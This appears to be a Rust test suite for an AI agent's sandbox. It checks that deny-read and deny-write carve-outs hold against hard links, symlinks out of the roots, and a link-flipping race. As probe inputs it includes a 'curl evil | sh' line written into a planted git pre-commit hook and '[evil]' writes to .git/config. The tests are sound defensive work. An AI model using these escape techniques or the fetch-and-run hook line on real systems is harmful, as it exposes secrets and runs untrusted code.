//! Carve-outs protect data, not names (issue 29: items 2, 10 and the
//! final-symlink write): a directory carve-out holding a file with another
//! name in a granted root is refused (`required`) or reported, for jobs
//! (the plan, `sandbox_unavailable`) and for the agent's own `fs/*`
//! requests (the agent's confinement, `sandbox_denied`); nothing below a
//! `deny_read` path answers anything but `sandbox_denied`, whatever it
//! holds; a write through a final symlink out of the roots is
//! `sandbox_denied`. Each case runs as root and as an unprivileged user.

use super::*;
use executor_protocol::types::fs::*;
use executor_protocol::WireError;

use executor_tests::remote as fs_err;

/// `exec_command` under `i`: the refusal, or the run's output, exit code and
/// `sandbox_degraded`.
async fn run(
    e: &Env,
    i: &SandboxIntent,
    script: &str,
) -> Result<(String, i32, Vec<String>), executor_client::Error> {
    let p = exec_params(
        vec!["/bin/sh".into(), "-c".into(), script.into()],
        &e.ws,
        Some(i.clone()),
    );
    let r = e.c.call(&p).await?;
    Ok((
        r.output,
        r.exit_code.unwrap_or(-1),
        r.sandbox_degraded.unwrap_or_default(),
    ))
}

fn config(e: &Env) -> String {
    std::fs::read_to_string(e.ws.join(".git/config")).unwrap()
}

// Issue 29.2 (jobs): `--deny-write W/.git --deny-read W/secrets` with
// `secrets/key` planted as `src/notes.txt` by an earlier job and
// `.git/config` linked as `src/cfg` on the host: the plan refuses the
// intent (`sandbox_unavailable`, naming the carve-out and the file), or,
// with `required: false`, runs and reports it. Variants: a nested
// directory carve-out (`deny_read` inside a `deny_write`), and the job
// itself cannot make such a link. Layer: the agent's plan (what the
// mount namespace would cover is examined by identity before the spawn).
both!(
    c29_2_hard_links_into_directory_carve_outs,
    |e: Env| async move {
        let mut i = e.ws_write();
        i.filesystem.deny_write = vec![wp(&e.ws.join(".git"))];
        i.filesystem.deny_read = vec![wp(&e.ws.join("secrets"))];

        // Positive control first: no other names, the job runs, reads beside
        // the carve-outs and cannot link out of them itself (EXDEV from the
        // read-only bind of .git, ENOENT under the cover of secrets).
        let (out, code, degraded) = run(
            &e,
            &i,
            "cat src/main.rs; ln .git/config src/cfg-by-job; ln secrets/key src/key-by-job; \
         cat secrets/key; echo end",
        )
        .await
        .expect("no hard link: runs");
        assert!(out.contains("fn main()") && out.contains("end\n"), "{out}");
        assert!(!out.contains("TOPSECRET"), "mount namespace: {out}");
        assert_eq!(code, 0);
        assert!(degraded.is_empty(), "{degraded:?}");
        assert!(!e.ws.join("src/cfg-by-job").exists() && !e.ws.join("src/key-by-job").exists());

        // The trick: an earlier job without the carve-out plants the link.
        let mut open = e.ws_write();
        open.required = true;
        let (_, code, _) = run(&e, &open, "ln secrets/key src/notes.txt")
            .await
            .unwrap();
        assert_eq!(code, 0, "the earlier job may link what it can read");
        let err = run(&e, &i, "cat src/notes.txt").await.unwrap_err();
        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
        let msg = err.to_string();
        assert!(
            msg.contains("deny_read.0") && msg.contains("secrets") && msg.contains("hard link"),
            "the plan names the carve-out: {msg}"
        );
        assert!(
            !msg.contains("secrets/key"),
            "and no name inside a deny_read carve-out: {msg}"
        );
        std::fs::remove_file(e.ws.join("src/notes.txt")).unwrap();

        // .git/config linked on the host (a `git clone --local`'s way).
        std::fs::hard_link(e.ws.join(".git/config"), e.ws.join("src/cfg")).unwrap();
        let err = run(&e, &i, "echo '[evil]' >> src/cfg").await.unwrap_err();
        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
        assert!(
            err.to_string().contains("deny_write.0") && err.to_string().contains(".git/config"),
            "{err}"
        );
        assert_eq!(config(&e), "[core]\n", "nothing ran");
        // required: false runs and says what is not protected.
        let mut weak = i.clone();
        weak.required = false;
        let (_, code, degraded) = run(&e, &weak, "true").await.unwrap();
        assert_eq!(code, 0);
        let d = degraded.join("; ");
        assert!(
            d.contains("filesystem:") && d.contains(".git/config") && d.contains("hard link"),
            "{d}"
        );
        std::fs::remove_file(e.ws.join("src/cfg")).unwrap();

        // Variant (SANDBOX_TESTS 9, the other way): a file of the writable
        // root linked *into* the carve-out (a planted hook): its data is
        // the hook's, so the carve-out does not hold it either.
        std::fs::hard_link(e.ws.join("src/main.rs"), e.ws.join(".git/hooks/pre-commit")).unwrap();
        let err = run(&e, &i, "echo 'curl evil | sh' > src/main.rs")
            .await
            .unwrap_err();
        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
        assert!(err.to_string().contains(".git/hooks/pre-commit"), "{err}");
        std::fs::remove_file(e.ws.join(".git/hooks/pre-commit")).unwrap();

        // Variant: a deny_read directory nested in a deny_write one, its file
        // linked into the writable root.
        std::fs::create_dir_all(e.ws.join(".git/private")).unwrap();
        std::fs::write(e.ws.join(".git/private/token"), "NESTED-SECRET\n").unwrap();
        std::fs::hard_link(e.ws.join(".git/private/token"), e.ws.join("src/tok")).unwrap();
        if e.uid != current_uid() {
            chown_r(&e.ws, e.uid);
        }
        let mut nested = e.ws_write();
        nested.filesystem.deny_write = vec![wp(&e.ws.join(".git"))];
        nested.filesystem.deny_read = vec![wp(&e.ws.join(".git/private"))];
        let err = run(&e, &nested, "cat src/tok").await.unwrap_err();
        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
        assert!(
            err.to_string().contains("deny_read.0: ") && !err.to_string().contains("token"),
            "{err}"
        );
        // Two names inside the same carve-out are no way in: runs.
        std::fs::remove_file(e.ws.join("src/tok")).unwrap();
        std::fs::hard_link(
            e.ws.join(".git/private/token"),
            e.ws.join(".git/private/t2"),
        )
        .unwrap();
        let (out, code, degraded) = run(&e, &nested, "cat .git/private/token; echo end")
            .await
            .expect("both names covered: runs");
        assert!(!out.contains("NESTED-SECRET") && code == 0, "{out}");
        assert!(degraded.is_empty(), "{degraded:?}");
    }
);

// Issue 29.2, the bound: a directory carve-out too large to examine is
// refused with `required` (never a silently weaker job) and reported
// without. Layer: the agent's plan.
both!(
    c29_2_a_carve_out_too_large_to_examine,
    |e: Env| async move {
        let big = e.ws.join("big");
        std::fs::create_dir_all(&big).unwrap();
        // One more entry than the bound (executor_sandbox::holds::MAX_ENTRIES).
        for n in 0..=100_000u32 {
            std::fs::File::create(big.join(format!("{n:06}"))).unwrap();
        }
        let mut i = e.ws_write();
        i.filesystem.deny_write = vec![wp(&big)];
        let err = run(&e, &i, "echo x > big/000001").await.unwrap_err();
        assert_eq!(err.code(), Some(ErrorCode::SandboxUnavailable), "{err}");
        assert!(err.to_string().contains("too many"), "{err}");
        i.required = false;
        let (_, code, degraded) = run(&e, &i, "true").await.unwrap();
        assert_eq!(code, 0);
        assert!(degraded.join("; ").contains("too many"), "{degraded:?}");
        // Positive control: one entry fewer is examined and runs.
        std::fs::remove_file(big.join("100000")).unwrap();
        i.required = true;
        let (out, code, _) = run(&e, &i, "echo x > big/000001; echo end").await.unwrap();
        assert_eq!(code, 0, "{out}");
        assert!(
            out.contains("Read-only file system") && out.contains("end\n"),
            "the read-only mount (EROFS): {out}"
        );
        let _ = std::fs::remove_dir_all(&big);
    }
);

fn denied(w: &WireError, what: &str) {
    assert_eq!(w.code, ErrorCode::SandboxDenied, "{what}: {w:?}");
}

// Issue 29.2 (the agent's fs requests): `cat --ro W --deny-read W/secrets
// W/notes.txt` with notes.txt a hard link of secrets/token printed the
// secret. Every fs method on such a name is `sandbox_denied` (the
// identity of the opened file is one of the carve-out's), for directory
// and file carve-outs, deny_read and deny_write; a link between two
// files outside every carve-out still reads. Variant: the name flips
// between a hard link of the secret and a plain file while it is read:
// the check is on the descriptor read, never the secret. Layer: the
// agent's fs confinement.
both!(
    c29_2_agent_fs_refuses_names_of_carved_out_files,
    |e: Env| async move {
        std::fs::hard_link(e.ws.join("secrets/key"), e.ws.join("notes.txt")).unwrap();
        std::fs::hard_link(e.ws.join(".git/config"), e.ws.join("src/cfg")).unwrap();
        std::fs::write(e.ws.join("src/a"), "A\n").unwrap();
        std::fs::hard_link(e.ws.join("src/a"), e.ws.join("src/b")).unwrap();
        if e.uid != current_uid() {
            chown_r(&e.ws, e.uid);
        }
        let notes = e.ws.join("notes.txt");
        let mut ro = e.ws_write();
        ro.filesystem.read = ReadRoots::Paths(vec![wp(&e.ws)]);
        ro.filesystem.write = vec![];
        let mut rw = e.ws_write();
        rw.filesystem.deny_write = vec![wp(&e.ws.join(".git"))];
        for carve in [e.ws.join("secrets"), e.ws.join("secrets/key")] {
            for base in [&ro, &rw] {
                let mut i = base.clone();
                i.filesystem.deny_read = vec![wp(&carve)];
                let c = e.c.with_sandbox(Some(i.clone()));
                let what = |m: &str| format!("{m} of a link of {}", carve.display());
                denied(
                    &fs_err(c.read_file(wp(&notes)).await.unwrap_err()),
                    &what("readFile"),
                );
                denied(
                    &fs_err(c.stat(wp(&notes)).await.unwrap_err()),
                    &what("stat"),
                );
                let open =
                    e.c.call(&OpenParams {
                        path: wp(&notes),
                        sandbox: Some(i.clone()),
                        cwd: None,
                    })
                    .await;
                denied(&fs_err(open.unwrap_err()), &what("open"));
                let stream = c.read_stream(wp(&notes)).await;
                denied(&fs_err(stream.err().expect("refused")), &what("readStream"));
                // A walk lists the name without its size, and says why.
                let mut params = executor_client::fs::walk_params(wp(&e.ws));
                params.sandbox = Some(i.clone());
                let page = e.c.call(&params).await.unwrap();
                let entry = page
                    .entries
                    .iter()
                    .find(|x| x.path.display() == "notes.txt")
                    .expect("listed");
                assert_eq!((entry.size, entry.mtime_ns), (0, 0), "walk");
                assert!(
                    page.errors
                        .iter()
                        .any(|x| x.path.display() == "notes.txt"
                            && x.code == ErrorCode::SandboxDenied)
                );
                // Positive controls: two names outside every carve-out, and a
                // plain file.
                assert_eq!(c.read_file(wp(&e.ws.join("src/b"))).await.unwrap(), b"A\n");
                assert_eq!(
                    c.read_file(wp(&e.ws.join("src/main.rs"))).await.unwrap(),
                    b"fn main() {}\n"
                );
            }
        }
        // deny_write: no in-place write through the other name.
        let w =
            e.c.call(&write_params(
                &e.ws.join("src/cfg"),
                b"[evil]\n",
                false,
                &rw,
            ))
            .await
            .unwrap_err();
        denied(&fs_err(w), "in-place write of a link of .git/config");
        assert_eq!(config(&e), "[core]\n", "agent fs confinement");
        // A file of the root linked into the carve-out: the same.
        std::fs::hard_link(e.ws.join("src/main.rs"), e.ws.join(".git/hooks/pre-commit")).unwrap();
        let w =
            e.c.call(&write_params(
                &e.ws.join("src/main.rs"),
                b"evil\n",
                false,
                &rw,
            ))
            .await
            .unwrap_err();
        denied(&fs_err(w), "in-place write of a file linked into .git");
        std::fs::remove_file(e.ws.join(".git/hooks/pre-commit")).unwrap();
        assert_eq!(
            std::fs::read(e.ws.join("src/main.rs")).unwrap(),
            b"fn main() {}\n"
        );
        e.c.call(&write_params(&e.ws.join("src/a"), b"A2\n", false, &rw))
            .await
            .expect("positive control: in place through a link outside the carve-outs");
        assert_eq!(std::fs::read(e.ws.join("src/b")).unwrap(), b"A2\n");

        // The race: src/flip is a hard link of the secret or a plain file.
        let mut i = ro.clone();
        i.filesystem.deny_read = vec![wp(&e.ws.join("secrets"))];
        let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
        let flipper = {
            let (stop, ws) = (stop.clone(), e.ws.clone());
            std::thread::spawn(move || {
                let mut flips = 0u64;
                while !stop.load(std::sync::atomic::Ordering::SeqCst) {
                    let _ = std::fs::remove_file(ws.join("src/flip-l"));
                    if std::fs::hard_link(ws.join("secrets/key"), ws.join("src/flip-l")).is_ok() {
                        let _ = std::fs::rename(ws.join("src/flip-l"), ws.join("src/flip"));
                    }
                    let _ = std::fs::write(ws.join("src/flip-p"), "PLAIN\n");
                    let _ = std::fs::rename(ws.join("src/flip-p"), ws.join("src/flip"));
                    std::thread::sleep(std::time::Duration::from_micros(300));
                    flips += 1;
                }
                flips
            })
        };
        let c = e.c.with_sandbox(Some(i));
        let (mut plain, mut refused) = (0, 0);
        // Reads until both states were met many times (the flipper shares
        // two cores with everything else), at least 300.
        for n in 0..5000 {
            if n >= 300 && plain >= 20 && refused >= 20 {
                break;
            }
            match c.read_file(wp(&e.ws.join("src/flip"))).await {
                Ok(data) => {
                    assert_eq!(data, b"PLAIN\n", "read the secret through a hard link");
                    plain += 1;
                }
                Err(err) => {
                    let w = fs_err(err);
                    assert!(
                        matches!(w.code, ErrorCode::SandboxDenied | ErrorCode::NotFound),
                        "{w:?}"
                    );
                    refused += (w.code == ErrorCode::SandboxDenied) as u32;
                }
            }
        }
        stop.store(true, std::sync::atomic::Ordering::SeqCst);
        let flips = flipper.join().unwrap();
        assert!(
            plain > 0 && refused > 0 && flips > 10,
            "the race ran: {plain} plain, {refused} refused, {flips} flips"
        );
    }
);

/// Every fs method on `path` under `i`: the error code of each (`None`:
/// it succeeded), in a fixed order.
async fn every_method(e: &Env, i: &SandboxIntent, path: &Path) -> Vec<(String, Option<WireError>)> {
    let s = || Some(i.clone());
    let p = || wp(path);
    let err = |r: Result<(), executor_client::Error>| r.err().map(fs_err);
    let mut out = Vec::new();
    let c = e.c.with_sandbox(s());
    out.push(("stat".into(), err(c.stat(p()).await.map(drop))));
    out.push((
        "canonicalize".into(),
        err(c.canonicalize(p()).await.map(drop)),
    ));
    out.push(("readFile".into(), err(c.read_file(p()).await.map(drop))));
    out.push(("readLink".into(), err(c.read_link(p()).await.map(drop))));
    out.push(("readStream".into(), err(c.read_stream(p()).await.map(drop))));
    out.push((
        "open".into(),
        err(e
            .c
            .call(&OpenParams {
                path: p(),
                sandbox: s(),
                cwd: None,
            })
            .await
            .map(drop)),
    ));
    let mut walk = executor_client::fs::walk_params(p());
    walk.sandbox = s();
    out.push(("walk".into(), err(e.c.call(&walk).await.map(drop))));
    for atomic in [true, false] {
        out.push((
            format!("writeFile atomic={atomic}"),
            err(e
                .c
                .call(&write_params(path, b"x", atomic, i))
                .await
                .map(drop)),
        ));
    }
    out.push((
        "createDirectory".into(),
        err(c.create_directory(p(), true).await),
    ));
    out.push((
        "createSymlink".into(),
        err(c.create_symlink(p(), "x").await),
    ));
    out.push(("remove".into(), err(c.remove(p(), true).await)));
    out.push((
        "rename from".into(),
        err(c.rename(p(), wp(&e.ws.join("src/renamed"))).await),
    ));
    out.push((
        "rename to".into(),
        err(c.rename(wp(&e.ws.join("src/main.rs")), p()).await),
    ));
    out
}

// Issue 29.10: below a deny_read directory every fs method answers
// `sandbox_denied`, whatever is there (a file, a directory, nothing):
// `secrets/NAME/x` must not say `not_a_directory` or `not_found` by what
// NAME is. Variants: every method, reached directly, through `..`,
// through a symlink to the carve-out, and through a symlink whose target
// passes through it (`../secrets/NAME/..`). Positive control: outside the
// carve-out the same paths do tell the kinds apart. Layer: the agent's
// fs confinement (decided before anything inside is looked up).
both!(
    c29_10_names_below_deny_read_do_not_leak,
    |e: Env| async move {
        std::fs::create_dir_all(e.ws.join("secrets/dir")).unwrap();
        std::fs::create_dir_all(e.ws.join("open/dir")).unwrap();
        std::fs::write(e.ws.join("open/key"), "k\n").unwrap();
        std::os::unix::fs::symlink("../secrets", e.ws.join("src/to-secrets")).unwrap();
        for name in ["key", "dir", "absent"] {
            std::os::unix::fs::symlink(
                format!("../secrets/{name}/.."),
                e.ws.join(format!("src/through-{name}")),
            )
            .unwrap();
        }
        if e.uid != current_uid() {
            chown_r(&e.ws, e.uid);
        }
        let mut i = e.ws_write();
        i.filesystem.deny_read = vec![wp(&e.ws.join("secrets"))];
        // Variant: file carve-outs and one that does not exist: nothing is
        // looked up below them either (`key/x` is not `not_a_directory`).
        let mut files = e.ws_write();
        files.filesystem.deny_read = vec![
            wp(&e.ws.join("open/key")),
            wp(&e.ws.join("open/gone")),
            wp(&e.ws.join("open/dir")),
        ];
        for name in ["key", "gone", "dir"] {
            let path = e.ws.join(format!("open/{name}/x"));
            for (method, r) in every_method(&e, &files, &path).await {
                let w = r.unwrap_or_else(|| panic!("{method} {}: succeeded", path.display()));
                denied(&w, &format!("{method} {}", path.display()));
            }
        }
        for name in ["key", "dir", "absent"] {
            for path in [
                e.ws.join(format!("secrets/{name}/x")),
                e.ws.join(format!("secrets/{name}/x/y")),
                e.ws.join(format!("src/../secrets/{name}/x")),
                e.ws.join(format!("src/to-secrets/{name}/x")),
                e.ws.join(format!("src/through-{name}/x")),
            ] {
                for (method, r) in every_method(&e, &i, &path).await {
                    let w = r.unwrap_or_else(|| panic!("{method} {}: succeeded", path.display()));
                    assert_eq!(
                        w.code,
                        ErrorCode::SandboxDenied,
                        "{method} {}: {w:?} (agent fs confinement)",
                        path.display()
                    );
                    let rule = format!("{:?}", w.data_get("rule"));
                    for other in ["key", "dir", "absent"] {
                        assert!(!rule.contains(&format!("/{other}")), "{rule}");
                    }
                }
            }
        }
        assert_eq!(
            std::fs::read_to_string(e.ws.join("secrets/key")).unwrap(),
            "TOPSECRET\n"
        );
        assert!(!e.ws.join("secrets/x").exists() && !e.ws.join("secrets/dir/x").exists());
        // Positive control: outside the carve-out the kinds tell apart.
        let c = e.c.with_sandbox(Some(i.clone()));
        let code = |r: Result<StatResult, executor_client::Error>| r.err().map(|x| fs_err(x).code);
        assert_eq!(
            code(c.stat(wp(&e.ws.join("open/key/x"))).await),
            Some(ErrorCode::NotADirectory)
        );
        assert_eq!(
            code(c.stat(wp(&e.ws.join("open/absent/x"))).await),
            Some(ErrorCode::NotFound)
        );
        assert_eq!(code(c.stat(wp(&e.ws.join("open/dir/../key"))).await), None);
        assert_eq!(
            code(
                c.stat(wp(&e.ws.join("src/through-dir/../src/main.rs")))
                    .await
            ),
            Some(ErrorCode::SandboxDenied)
        );
    }
);

// Issue 29, a final symlink out of the roots: an in-place write through it
// answered `io` (ELOOP) instead of `sandbox_denied`. Variants: a dangling
// link out, a link to a directory out, a chain of links, a link into a
// read-only root, a link into a deny_write carve-out. Positive controls:
// an atomic write replaces such a link (as documented), and a link within
// the write root is still never written through (`io`, ELOOP, as today).
// Layer: the agent's fs confinement.
both!(
    c29_f3_in_place_write_through_a_link_out,
    |e: Env| async move {
        let ws = &e.ws;
        std::fs::write(e.outside.join("victim"), "untouched\n").unwrap();
        let links = [
            ("src/to-outside", e.outside.join("victim")),
            ("src/dangling-out", e.outside.join("created")),
            ("src/to-outside-dir", e.outside.clone()),
            ("src/hop1", PathBuf::from("hop2")),
            ("src/hop2", PathBuf::from("../../outside/victim")),
            ("src/to-usr", PathBuf::from("/usr/bin/true")),
            ("src/to-config", PathBuf::from("../.git/config")),
            ("src/to-main", PathBuf::from("main.rs")),
        ];
        for (at, to) in &links {
            std::os::unix::fs::symlink(to, ws.join(at)).unwrap();
        }
        if e.uid != current_uid() {
            chown_r(&e.base, e.uid);
        }
        let mut i = e.ws_write();
        i.filesystem.deny_write = vec![wp(&ws.join(".git"))];
        for (at, _) in &links[..7] {
            let w =
                e.c.call(&write_params(&ws.join(at), b"EVIL\n", false, &i))
                    .await
                    .unwrap_err();
            denied(&fs_err(w), &format!("in place through {at}"));
        }
        let w = fs_err(
            e.c.call(&write_params(&ws.join("src/to-main"), b"x\n", false, &i))
                .await
                .unwrap_err(),
        );
        assert_eq!(
            (w.code, w.data_get("errno").and_then(|v| v.as_i64())),
            (ErrorCode::Io, Some(libc::ELOOP as i64)),
            "a link within the root: never written through, as before: {w:?}"
        );
        assert_eq!(
            std::fs::read_to_string(e.outside.join("victim")).unwrap(),
            "untouched\n"
        );
        assert!(!e.outside.join("created").exists());
        assert_eq!(config(&e), "[core]\n");
        assert_eq!(
            std::fs::read(ws.join("src/main.rs")).unwrap(),
            b"fn main() {}\n"
        );
        // create_parents through a link within the root that points up
        // resolves as the host does (it was refused before).
        std::os::unix::fs::symlink("../src", ws.join("src/up")).unwrap();
        let mut p = write_params(&ws.join("src/up/made/f"), b"up\n", false, &i);
        p.create_parents = true;
        e.c.call(&p)
            .await
            .expect("create_parents through src/up -> ../src");
        assert_eq!(std::fs::read(ws.join("src/made/f")).unwrap(), b"up\n");
        // Atomic: the link itself is replaced.
        e.c.call(&write_params(
            &ws.join("src/to-outside"),
            b"new\n",
            true,
            &i,
        ))
        .await
        .expect("an atomic write replaces the link");
        assert_eq!(std::fs::read(ws.join("src/to-outside")).unwrap(), b"new\n");
        assert_eq!(
            std::fs::read_to_string(e.outside.join("victim")).unwrap(),
            "untouched\n"
        );
    }
);

// Review of issue 29.10 (jobs): a carve-out named below a deny_read
// directory was looked up, covered, pinned or given a placeholder inside
// it, so a job's start answered by what the deny_read path holds
// (`deny_write secrets/key/x` failed at "binding deny_write paths",
// `secrets/dir/x` at "pinning the ancestors", `secrets/dir` at "binding")
// and no job with such a carve-out ran at all. Such a carve-out adds
// nothing and is dropped unlooked-at: every one of them runs the same.
// Variant: a symlink inside the deny_read path (`secrets/lnk -> ../src`)
// does not turn `deny_write secrets/lnk/x` into a carve-out of `src`.
// Positive controls: the deny_read cover still hides the secret, and a
// carve-out beside it is still enforced (EROFS). Layer: the agent's
// policy (sandbox::policy), before the plan and the mount namespace.
both!(
    c29_10_carve_outs_below_deny_read_are_not_looked_up,
    |e: Env| async move {
        std::fs::create_dir_all(e.ws.join("secrets/dir/sub")).unwrap();
        std::fs::create_dir_all(e.ws.join("open")).unwrap();
        std::os::unix::fs::symlink("../src", e.ws.join("secrets/lnk")).unwrap();
        if e.uid != current_uid() {
            chown_r(&e.ws, e.uid);
        }
        let before: Vec<_> = std::fs::read_dir(e.ws.join("secrets"))
            .unwrap()
            .map(|x| x.unwrap().file_name())
            .collect();
        // Everything on stdout, in order.
        let script =
            "cat secrets/key 2>&1; touch open/f 2>&1; echo y > src/new && cat src/new; echo end";
        let mut answers = Vec::new();
        for nested in [
            "key", "dir", "absent", "key/x", "dir/x", "absent/x", "dir/sub", "lnk", "lnk/x",
        ] {
            for read in [false, true] {
                let mut i = e.ws_write();
                i.filesystem.deny_read = vec![wp(&e.ws.join("secrets"))];
                i.filesystem.deny_write = vec![wp(&e.ws.join("open"))];
                let inner = wp(&e.ws.join("secrets").join(nested));
                if read {
                    i.filesystem.deny_read.push(inner);
                } else {
                    i.filesystem.deny_write.push(inner);
                }
                let what = format!(
                    "deny_{} secrets/{nested}",
                    if read { "read" } else { "write" }
                );
                let (out, code, degraded) = run(&e, &i, script)
                    .await
                    .unwrap_or_else(|err| panic!("{what}: the agent's policy: {err}"));
                assert!(!out.contains("TOPSECRET"), "{what}: mount namespace: {out}");
                assert!(
                    out.contains("Read-only file system"),
                    "{what}: open/ EROFS: {out}"
                );
                assert!(
                    out.ends_with("y\nend\n"),
                    "{what}: src/ stays writable: {out}"
                );
                assert!(degraded.is_empty(), "{what}: {degraded:?}");
                answers.push((code, out));
                let _ = std::fs::remove_file(e.ws.join("src/new"));
            }
        }
        assert!(
            answers.windows(2).all(|w| w[0] == w[1]),
            "one answer whatever is below deny_read: {answers:?}"
        );
        let after: Vec<_> = std::fs::read_dir(e.ws.join("secrets"))
            .unwrap()
            .map(|x| x.unwrap().file_name())
            .collect();
        assert_eq!(before, after, "nothing made inside the deny_read path");
    }
);

// Review of issue 29.10 (the plan's reports): a deny_read directory
// nested in a deny_write one, its file linked out of both: the deny_read
// report names no file, but the deny_write one named the file inside the
// deny_read directory (`required: false`, in `sandbox_degraded`). No
// report names anything inside a deny_read path. Variant: an unreadable
// subdirectory of the nested deny_read one (the walk's error named it),
// as the unprivileged user only (root reads it). Positive control: a
// file of the deny_write directory outside the deny_read one is still
// named. Layer: the agent's plan.
both!(
    c29_10_reports_name_nothing_inside_deny_read,
    |e: Env| async move {
        std::fs::create_dir_all(e.ws.join(".git/private/sub-HIDDEN")).unwrap();
        std::fs::write(e.ws.join(".git/private/sub-HIDDEN/tok-HIDDEN"), "S\n").unwrap();
        std::fs::hard_link(
            e.ws.join(".git/private/sub-HIDDEN/tok-HIDDEN"),
            e.ws.join("src/tok"),
        )
        .unwrap();
        if e.uid != current_uid() {
            chown_r(&e.ws, e.uid);
        }
        let mut i = e.ws_write();
        i.required = false;
        i.filesystem.deny_write = vec![wp(&e.ws.join(".git"))];
        i.filesystem.deny_read = vec![wp(&e.ws.join(".git/private"))];
        let (_, code, degraded) = run(&e, &i, "true").await.unwrap();
        assert_eq!(code, 0);
        let d = degraded.join("; ");
        assert!(d.contains("deny_write.0") && d.contains("hard link"), "{d}");
        assert!(
            !d.contains("HIDDEN"),
            "the agent's plan named a file inside deny_read: {d}"
        );
        // Positive control: a file of .git outside .git/private is named.
        std::fs::hard_link(e.ws.join(".git/config"), e.ws.join("src/cfg")).unwrap();
        let (_, _, degraded) = run(&e, &i, "true").await.unwrap();
        let d = degraded.join("; ");
        assert!(d.contains(".git/config") && !d.contains("HIDDEN"), "{d}");
        std::fs::remove_file(e.ws.join("src/cfg")).unwrap();
        std::fs::remove_file(e.ws.join("src/tok")).unwrap();
        // Variant: an unreadable directory inside the deny_read one.
        if e.uid != 0 {
            let sub = e.ws.join(".git/private/sub-HIDDEN");
            std::fs::set_permissions(&sub, std::os::unix::fs::PermissionsExt::from_mode(0o000))
                .unwrap();
            let (_, _, degraded) = run(&e, &i, "true").await.unwrap();
            std::fs::set_permissions(&sub, std::os::unix::fs::PermissionsExt::from_mode(0o755))
                .unwrap();
            let d = degraded.join("; ");
            assert!(
                d.contains("deny_write.0") && d.contains("cannot be examined"),
                "{d}"
            );
            assert!(
                !d.contains("HIDDEN"),
                "the agent's plan named a directory inside deny_read: {d}"
            );
        }
    }
);
